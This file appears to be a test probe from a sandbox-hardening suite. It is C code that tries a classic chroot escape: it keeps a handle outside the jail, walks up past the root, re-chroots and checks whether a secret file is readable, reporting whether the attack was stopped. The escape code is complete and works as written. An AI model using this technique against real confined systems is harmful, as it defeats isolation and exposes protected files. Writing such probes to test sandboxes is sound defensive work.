// chroot(2) into DIRECTORY with a handle on the outside kept, then up until the top, then looks for SECRET.
#include <fcntl.h>
#include <unistd.h>

#include "victim.h"

int main(int argc, char** argv) {
  begin("chroot_escape");
  const char* directory = text_argument(argc, argv, 1);
  const char* secret = text_argument(argc, argv, 2);
  int outside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (outside < 0) attack_stopped_by_errno("open");
  if (chroot(directory) != 0) attack_stopped_by_errno("chroot");
  if (fchdir(outside) != 0) attack_stopped_by_errno("fchdir");
  // Deeper than any path: going up from the top stays at the top.
  for (int level = 0; level < 100; ++level) {
    if (chdir("..") != 0) attack_stopped_by_errno("chdir");
  }
  if (chroot(".") != 0) attack_stopped_by_errno("chroot");
  if (access(secret, R_OK) != 0) attack_stopped_by_errno("access");
  attack_succeeded("reads %s", secret);
}
